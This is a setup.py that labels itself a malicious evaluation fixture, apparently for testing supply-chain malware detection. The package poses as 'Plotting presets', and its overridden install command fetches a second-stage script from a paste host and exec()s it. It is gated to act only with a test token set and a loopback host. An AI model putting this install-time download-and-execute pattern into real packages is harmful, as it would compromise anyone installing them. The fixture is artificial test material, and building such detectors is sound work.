# Evaluation fixture (malicious): a multi-stage payload.  An overridden
# install command fetches a "paste" and exec()s it; that second stage
# (served by the evaluation: tests/eval/payloads/www/p/stage2.py) fetches a
# binary, hides it in a dot directory, makes it executable and runs it.
# Acts only inside the evaluation: SP_TOKEN set, the paste host resolving
# to loopback.
import os
import socket
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        host = os.environ.get("SP_PASTE_HOST")
        if os.environ.get("SP_TOKEN") and host:
            try:
                if socket.gethostbyname(host).startswith("127."):
                    url = "http://%s:%s/raw/stage2.py" % (host, os.environ.get("SP_HTTP_PORT", "80"))
                    exec(urllib.request.urlopen(url, timeout=10).read(), {"__name__": "stage2"})
            except OSError:
                pass
        super().run()


setup(
    name="staged-exec",
    version="0.9.9",
    description="Plotting presets",
    py_modules=["plotpresets"],
    cmdclass={"install": Install},
)
